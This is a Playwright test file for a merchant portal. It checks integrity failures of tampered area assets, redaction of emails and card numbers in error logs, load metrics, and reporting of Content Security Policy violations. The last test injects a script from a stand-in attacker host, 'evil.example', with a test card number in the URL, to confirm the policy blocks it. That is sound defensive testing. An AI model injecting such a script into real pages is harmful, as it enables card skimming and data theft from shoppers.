import { freePort } from '@countinghouse/sandbox/free-port';
import type { Page } from '@playwright/test';
import { kinds, place } from '../../broken-area.ts';
import { test as own } from '../../own-portal.ts';
import { expect } from '../../portal-test.ts';

interface Asset {
  url: string;
  initial: boolean;
}

const test = own.extend<object, { metricsPort: number }>({
  metricsPort: [
    // biome-ignore lint/correctness/noEmptyPattern: a fixture without others
    async ({}, use) => use(await freePort()),
    { scope: 'worker' },
  ],
  ownEnv: [async ({ metricsPort }, use) => use({ METRICS_PORT: String(metricsPort) }), { scope: 'worker' }],
});
test.describe.configure({ mode: 'default' });
test.use({
  expectedErrors: [
    /Failed to load resource|Failed to find a valid digest|ERR_|Content Security Policy|made up/,
  ],
});

/** The area's version, as the page has it, and what the metrics say of it. */
async function readArea(page: Page, id: string): Promise<{ version: string; assets: Asset[] }> {
  const { areas } = await (await page.request.get('/registry.json')).json();
  return areas.find((area: { id: string }) => area.id === id);
}

const readMetrics = async (port: number) => (await fetch(`http://127.0.0.1:${port}/metrics`)).text();

/** What of the proxy's log has a word in it. */
const linesWith = (logs: string, word: string) => logs.split('\n').filter((line) => line.includes(word));

async function reportIdOn(page: Page): Promise<string> {
  await expect(place(page)).toContainText(/Report ID: [0-9A-HJKMNP-TV-Z]{10}/);
  return /Report ID: (\w{10})/.exec((await place(page).textContent()) ?? '')?.[1] ?? 'none';
}

for (const { name, isIt } of kinds) {
  test(`one flipped byte in an area’s ${name} keeps it from running, and the id on the screen finds it in the log`, async ({
    page,
    signIn,
    ownPortal,
    metricsPort,
  }) => {
    const { version, assets } = await readArea(page, 'transactions');
    const files = assets.filter(isIt).map(({ url }) => url);
    await page.route(
      (url) => files.includes(url.pathname),
      async (route) => {
        const response = await route.fetch();
        const body = await response.body();
        // Texts are lazy scripts too: without them an area says so instead.
        if (name === 'lazy script' && !body.includes('jsx')) return route.fulfill({ response });
        body[body.length - 2] = (body.at(-2) ?? 0) ^ 1;
        await route.fulfill({ response, body });
      },
    );
    const series = `portal_area_load_failures_total{area="transactions",version="${version}",fault="damaged"}`;
    const countIn = (metrics: string) => Number(linesWith(metrics, series)[0]?.slice(series.length) ?? 0);
    const before = countIn(await readMetrics(metricsPort));

    await signIn('merchant.demo', '/dashboard');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Transactions' }).click();
    await expect(place(page)).toContainText('could not be loaded');
    await expect(page.getByRole('table', { name: 'Transactions' })).toBeHidden();

    const id = await reportIdOn(page);
    await expect.poll(() => linesWith(ownPortal.readLogs(), id)).toHaveLength(1);
    const line = JSON.parse(linesWith(ownPortal.readLogs(), id)[0] ?? '{}');
    expect(line).toMatchObject({ reportId: id, area: 'transactions', version, fault: 'damaged' });
    expect(line).toMatchObject({ user: expect.stringMatching(/^[\w-]{16}$/), browser: /Chrome|Chromium/ });
    expect(JSON.stringify(line)).not.toContain('merchant.demo');
    await expect.poll(async () => countIn(await readMetrics(metricsPort))).toBeGreaterThan(before);
  });
}

test('loads and vitals are counted by area and version, and an error is in the log without what it holds', async ({
  page,
  signIn,
  ownPortal,
  metricsPort,
}) => {
  const { version } = await readArea(page, 'transactions');
  await signIn('merchant.demo', '/list-transaction');
  await expect(page.getByRole('table', { name: 'Transactions' })).toBeVisible();
  await page.evaluate(() => {
    setTimeout(() => {
      throw new TypeError('made up for ana@shop.example, card 4111 1111 1111 1111');
    });
  });
  await expect.poll(() => linesWith(ownPortal.readLogs(), 'made up for')).toHaveLength(1);
  const [line = ''] = linesWith(ownPortal.readLogs(), 'made up for');
  expect(JSON.parse(line)).toMatchObject({
    kind: 'error',
    area: 'shell',
    error: { name: 'TypeError', message: 'made up for [email], card [number]' },
  });
  expect(line).not.toMatch(/4111 ?1111|ana@/);
  const labels = `area="transactions",version="${version}"`;
  await page.goto('about:blank');
  for (const series of ['load_duration_seconds_count', 'ttfb_seconds_count', 'cls_count'])
    await expect
      .poll(async () => linesWith(await readMetrics(metricsPort), `portal_area_${series}{${labels}`))
      .not.toEqual([]);
});

test('a script that the page’s policy does not admit is reported', async ({
  page,
  ownPortal,
  metricsPort,
}) => {
  await page.goto('/login');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js?card=4111111111111111';
    document.head.append(script);
  });
  await expect.poll(() => linesWith(ownPortal.readLogs(), 'https://evil.example/x.js')).toHaveLength(1);
  expect(ownPortal.readLogs()).not.toMatch(/4111[ -]?1111/);
  expect(await readMetrics(metricsPort)).toContain(
    'portal_policy_violations_total{directive="script-src-elem"} 1',
  );
});
